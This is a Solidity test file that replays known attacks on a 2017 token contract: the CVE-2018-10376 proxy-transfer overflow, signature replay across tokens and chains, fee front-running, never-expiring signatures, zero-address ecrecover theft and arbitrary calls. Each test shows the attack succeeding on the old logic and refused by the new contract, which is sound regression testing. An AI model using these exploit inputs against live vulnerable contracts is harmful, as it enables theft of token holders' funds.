// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import {IProxyPayments} from "../../src/interfaces/IProxyPayments.sol";
import {IToken} from "../support/IToken.sol";
import {OriginalToken} from "../support/OriginalToken.sol";
import {Message, TokenTest} from "../support/TokenTest.sol";

/// What was done, or could have been done, to the SMT of 2017: each attack works on its logic and fails on ours.
contract TokenAttacksTest is TokenTest {
    uint256 private constant THIEF_KEY = 0xBAD;
    address private immutable thief = vm.addr(THIEF_KEY);
    OriginalToken private original;

    function setUp() public override {
        super.setUp();
        original = new OriginalToken(alice);
    }

    function signedOriginal(uint256 key, address from, address to, uint256 value, uint256 fee, uint256 nonce)
        private
        pure
        returns (uint8 v, bytes32 r, bytes32 s)
    {
        return vm.sign(key, keccak256(abi.encodePacked(from, to, value, fee, nonce)));
    }

    /// TK-9: CVE-2018-10376. The sum of value and fee is 0, and both are paid out.
    function test_TK9_proxyOverflow() public {
        uint256 value = 0x8fffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff;
        uint256 fee = 0x7000000000000000000000000000000000000000000000000000000000000001;
        (uint8 v, bytes32 r, bytes32 s) = signedOriginal(THIEF_KEY, thief, thief, value, fee, 0);
        vm.prank(relayer);
        original.transferProxy(thief, thief, value, fee, v, r, s);
        assertEq(original.balanceOf(relayer), fee, "made of nothing");

        Message memory m = Message(thief, thief, value, fee, relayer, 0, NOW);
        bytes memory signature = signed(THIEF_KEY, structHash(TRANSFER_PROXY, m));
        refuse(abi.encodeWithSelector(IToken.ERC20InsufficientBalance.selector, thief, 0, value), m, signature);
    }

    /// TK-8: two tokens with one code take one signature.
    function test_TK8_replayOnASisterToken() public {
        OriginalToken sister = new OriginalToken(alice);
        (uint8 v, bytes32 r, bytes32 s) = signedOriginal(KEY, alice, bob, 50, 3, 0);
        original.transferProxy(alice, bob, 50, 3, v, r, s);
        sister.transferProxy(alice, bob, 50, 3, v, r, s);
        assertEq(sister.balanceOf(bob), 50, "signed once, paid twice");

        bytes memory signature = signed(message());
        send(message(), signature);
        token = newToken(alice);
        vm.expectPartialRevert(IProxyPayments.ProxyWrongSigner.selector);
        send(message(), signature);
    }

    function test_TK8_replayOnAForkOfTheChain() public {
        (uint8 v, bytes32 r, bytes32 s) = signedOriginal(KEY, alice, bob, 50, 3, 0);
        vm.chainId(99);
        original.transferProxy(alice, bob, 50, 3, v, r, s);
        assertEq(original.balanceOf(bob), 50, "signed for another chain");
        vm.chainId(31_337);
        bytes memory signature = signed(message());
        vm.chainId(99);
        vm.expectPartialRevert(IProxyPayments.ProxyWrongSigner.selector);
        send(message(), signature);
    }

    /// TK-7: whoever sees the relayer's transaction sends it first and has the fee.
    function test_TK7_theRelayersFeeIsTaken() public {
        (uint8 v, bytes32 r, bytes32 s) = signedOriginal(KEY, alice, bob, 50, 3, 0);
        vm.prank(thief);
        original.transferProxy(alice, bob, 50, 3, v, r, s);
        assertEq(original.balanceOf(thief), 3, "the fee");

        Message memory m = message();
        bytes memory signature = signed(m);
        vm.expectRevert(abi.encodeWithSelector(IProxyPayments.ProxyWrongRelayer.selector, relayer, thief));
        vm.prank(thief);
        token.transferProxy(signature, payment(m));
    }

    /// TK-6: what was signed long ago is sent when it suits somebody.
    function test_TK6_aMessageWithoutEnd() public {
        (uint8 v, bytes32 r, bytes32 s) = signedOriginal(KEY, alice, bob, 50, 3, 0);
        bytes memory signature = signed(message());
        vm.warp(NOW + 3650 days);
        original.transferProxy(alice, bob, 50, 3, v, r, s);
        assertEq(original.balanceOf(bob), 50, "ten years later");
        refuse(abi.encodeWithSelector(IProxyPayments.ProxyExpired.selector, NOW, NOW + 3650 days), message(), signature);
    }

    /// TK-8: ecrecover gives 0 for junk, and 0 was taken for a holder.
    function test_TK8_junkSignedByTheZeroAddress() public {
        vm.prank(alice);
        original.transfer(address(0), 1000);
        original.transferProxy(address(0), thief, 1000, 0, 99, "junk", "junk");
        assertEq(original.balanceOf(thief), 1000, "stolen from nobody");

        Message memory m = Message(address(0), thief, 0, 0, relayer, 0, NOW);
        bytes memory refusal = abi.encodeWithSelector(IProxyPayments.ProxyWrongSigner.selector, address(0), address(0));
        refuse(refusal, m, abi.encodePacked(bytes32("junk"), bytes32("junk"), uint8(99)));
        vm.expectRevert(abi.encodeWithSelector(IToken.ERC20InvalidReceiver.selector, address(0)));
        vm.prank(alice);
        token.transfer(address(0), 1000);
    }

    /// TK-5: with the nonces in a row, one message that is held back holds up all after it.
    function test_TK5_oneHeldBackHoldsUpAll() public {
        (uint8 v, bytes32 r, bytes32 s) = signedOriginal(KEY, alice, bob, 50, 3, 1);
        vm.expectRevert();
        original.transferProxy(alice, bob, 50, 3, v, r, s);
        Message memory m = message();
        m.nonce = 1;
        send(m, signed(m));
        assertEq(token.balanceOf(bob), 50, "the second first");
    }

    /// TK-13: the token was made to call whatever somebody liked, in its own name.
    function test_TK13_arbitraryCallsInTheTokensName() public {
        vm.prank(alice);
        original.transfer(address(original), 1000);
        vm.prank(thief);
        original.approveAndCallcode(
            address(original), 0, abi.encodeWithSignature("transfer(address,uint256)", thief, 1000)
        );
        assertEq(original.balanceOf(thief), 1000, "the token's own");

        vm.prank(alice);
        token.transfer(address(token), 1000);
        bytes[] memory calls = new bytes[](1);
        calls[0] = abi.encodeWithSignature("transfer(address,uint256)", thief, 1000);
        vm.prank(thief);
        assertTrue(!token.tryAll(calls)[0], "in the thief's own name");
        vm.expectRevert();
        vm.prank(thief);
        token.approveAndCall(address(token), 0, calls[0]);
        assertEq(token.balanceOf(thief), 0, "nothing");
    }

    /// TK-3: who sees a permit sends it first, and the transaction that relied on it would fail. Nobody gains, and what
    /// relied on it goes on with the allowance (TokenVault._pull, SignedTest).
    function test_TK3_aPermitSentByAnother() public {
        bytes32 permit = keccak256("Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)");
        bytes memory signature =
            signed(KEY, keccak256(abi.encode(permit, alice, bob, uint256(9), uint256(0), uint256(NOW))));
        (bytes32 r, bytes32 s) = abi.decode(signature, (bytes32, bytes32));
        vm.prank(thief);
        token.permit(alice, bob, 9, NOW, uint8(signature[64]), r, s);
        assertEq(token.allowance(alice, bob), 9, "as it was signed");
        vm.prank(bob);
        token.transferFrom(alice, bob, 9);
        assertEq(token.balanceOf(bob), 9, "bob's all the same");
    }
}
